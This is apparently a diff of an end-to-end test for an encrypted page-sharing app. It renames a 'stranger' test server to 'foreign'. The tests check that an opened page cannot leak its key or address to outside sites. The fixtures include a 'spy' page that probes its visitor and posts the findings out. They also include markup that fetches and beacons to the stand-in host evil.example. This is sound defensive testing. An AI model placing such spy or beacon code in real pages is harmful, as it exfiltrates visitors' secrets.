@@ -13,12 +13,12 @@ import { SITE, startImitation, strict, viewerPage } from './imitation.mjs';
 import { fragment, seal } from './sealed.mjs';
 import { freePort, operatorKey, startServer, until } from './server.mjs';
 import { pierce } from './shadow.mjs';
-import { startStranger } from './stranger.mjs';
+import { startForeignSite } from './foreign-site.mjs';
 
 const EVIL = 'evil.example';
 const PASSWORD = 'correct horse';
 
-let server, browser, key, wire, stranger, url;
+let server, browser, key, wire, foreign, url;
 
 before(async () => {
   wire = await startWire();
@@ -26,13 +26,13 @@ before(async () => {
   server = await startServer({ env: { DROPLEAF_BASE_URL: url, RUST_LOG: 'trace', DROPLEAF_LIMITS__EXEMPT: '127.0.0.0/8,::1/128' }, siteUrl: () => url });
   wire.to = server.port;
   key = await operatorKey(server);
-  stranger = await startStranger();
+  foreign = await startForeignSite();
   browser = await launch({ hosts: [EVIL] });
 });
 after(async () => {
   await browser?.close();
   await server?.stop();
-  await stranger?.stop();
+  await foreign?.stop();
   await wire?.stop();
 });
 
@@ -115,7 +115,7 @@ for (const [name, [fields, pass]] of Object.entries(WAYS)) {
   });
 }
 
-/** What the stranger's page can find out about where its visitor came from. */
+/** What the foreign page can find out about where its visitor came from. */
 const SPY = `<!doctype html><title>Spy</title><script>
 const tell = (what, value) => fetch('/told', { method: 'POST', body: what + ' ' + value });
 const attempt = (act) => { try { return String(act()); } catch (error) { return error.name; } };
@@ -131,8 +131,8 @@ tell('name', window.name);
 </script>`;
 
 test('other sites that an opened page loads, frames, links and opens learn nothing of the key', { timeout: 120_000 }, async () => {
-  const evil = `http://${EVIL}:${stranger.port}`;
-  stranger.pages['/spy'] = SPY;
+  const evil = `http://${EVIL}:${foreign.port}`;
+  foreign.pages['/spy'] = SPY;
   const content = `<!doctype html><title>Opened</title><h1>Opened</h1>
     <img src="${evil}/picture" alt=""><link rel="stylesheet" href="${evil}/style"><script src="${evil}/script"></script>
     <script>window.ran = location.hash.length; fetch('${evil}/fetched'); navigator.sendBeacon('${evil}/beacon', 'x');</script>
@@ -147,7 +147,7 @@ test('other sites that an opened page loads, frames, links and opens learn nothi
   await page.getByRole('heading', { name: 'Opened' }).waitFor();
   // As docs/encryption.md says: the page's own scripts can read the key, so it is there to be leaked.
   assert.equal(await until('its script', () => page.evaluate('window.ran')), `#k=${secret}`.length);
-  const told = (way) => until(`the spy by ${way}`, () => stranger.seen.some(({ body }) => body === `from ${way}`));
+  const told = (way) => until(`the spy by ${way}`, () => foreign.seen.some(({ body }) => body === `from ${way}`));
   await told('frame');
   for (const way of ['blank', 'popup', 'form']) {
     await page.click(`#${way}`);
@@ -155,14 +155,14 @@ test('other sites that an opened page loads, frames, links and opens learn nothi
   }
   await page.click('#here');
   await told('link');
-  await until('all that is told', () => stranger.seen.filter(({ body }) => body.startsWith('name ')).length === 5);
-  const paths = new Set(stranger.seen.map(({ url: asked }) => asked.split('?')[0]));
+  await until('all that is told', () => foreign.seen.filter(({ body }) => body.startsWith('name ')).length === 5);
+  const paths = new Set(foreign.seen.map(({ url: asked }) => asked.split('?')[0]));
   for (const expected of ['/picture', '/style', '/script', '/fetched', '/beacon', '/spy', '/told']) assert.ok(paths.has(expected), `${expected} was asked for`);
-  const leaks = stranger.seen.filter((request) => JSON.stringify(request).includes(secret.slice(0, 16)));
+  const leaks = foreign.seen.filter((request) => JSON.stringify(request).includes(secret.slice(0, 16)));
   assert.deepEqual(leaks, []);
   // Not even the address of the page is told: it is a secret as well.
   const token = new URL(link).pathname.split('/')[2];
-  assert.deepEqual(stranger.seen.filter((request) => JSON.stringify(request).includes(token)).map(({ method, url: asked, headers, body }) => ({ method, asked, headers, body })), []);
+  assert.deepEqual(foreign.seen.filter((request) => JSON.stringify(request).includes(token)).map(({ method, url: asked, headers, body }) => ({ method, asked, headers, body })), []);
   await assertServerNeverKnew(secret);
 });
 
@@ -181,7 +181,7 @@ for (const [name, markup] of Object.entries(PINGS)) {
     try {
       const secret = randomBytes(32);
       // Under the strict policy no script of the page runs, and pings to the page's own server would still be allowed.
-      const to = `${imitation.url}${SITE}ping http://${EVIL}:${stranger.port}/ping`;
+      const to = `${imitation.url}${SITE}ping http://${EVIL}:${foreign.port}/ping`;
       for (const headers of [{}, { 'content-security-policy': strict("'unsafe-inline'") }]) {
         const content = `<!doctype html><title>Opened</title><h1>Opened</h1><div style="position: absolute; left: 50px; top: 100px; width: 300px; height: 300px; margin: 0; font-size: 60px">${markup(to)}</div>`;
         imitation.pages['index.html'] = { html: await viewerPage({ payload: seal(content, { secret }) }), headers, toolbar: false };
